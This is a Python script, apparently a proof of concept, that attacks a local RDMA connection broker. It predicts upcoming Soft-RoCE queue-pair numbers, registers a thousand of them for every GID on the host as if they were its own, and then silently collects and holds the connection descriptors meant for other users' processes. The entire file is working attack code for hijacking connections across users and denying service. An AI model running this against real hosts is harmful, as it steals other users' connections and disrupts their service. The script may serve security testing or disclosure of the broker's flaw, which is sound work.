#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""claim_all.py PORT: registers the next thousand queue pairs that the host will have with the broker of all users,
as if they were this process's, and says which connections it is handed. It keeps these and says nothing over
them. Its own copy of the frames (preload/link/wire.h), until it is ended."""

import glob
import signal
import socket
import struct
import sys

import pyverbs.enums as e
from pyverbs.cq import CQ
from pyverbs.device import Context
from pyverbs.pd import PD
from pyverbs.qp import QP, QPCap, QPInitAttr

MAGIC, VERSION, ADD_QP = 0x42564441, 2, 32


def gids():
    for path in glob.glob("/sys/class/infiniband/*/ports/1/gids/*"):
        try:
            with open(path, encoding="ascii") as file:
                gid = bytes.fromhex(file.read().strip().replace(":", ""))
        except OSError:
            continue
        if any(gid):
            yield gid


def newest_number():
    """Soft-RoCE counts its queue pairs up from 17, for as long as the host runs: the next ones follow this."""
    context = Context(name="rxe0")
    pd, cq = PD(context), CQ(context, 1)
    with QP(pd, QPInitAttr(qp_type=e.IBV_QPT_RC, scq=cq, rcq=cq, cap=QPCap(max_recv_wr=1))) as qp:
        return qp.qp_num


def registration(gid, number):
    payload = struct.pack("16sII", gid, number, 0)
    return struct.pack("IHHI", MAGIC, VERSION, ADD_QP, len(payload)) + payload


def main():
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    broker = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    broker.connect(f"\0adverb.broker.{sys.argv[1]}")
    held = 0
    newest = newest_number()
    for gid in {bytes(16), *gids()}:
        for number in range(newest, newest + 1024):
            broker.sendall(registration(gid, number))
    print("claimed what there is, and will be", flush=True)
    while True:
        _, descriptors, _, _ = socket.recv_fds(broker, 4096, 8)
        held += len(descriptors)
        print(f"handed {held} connections", flush=True)


main()
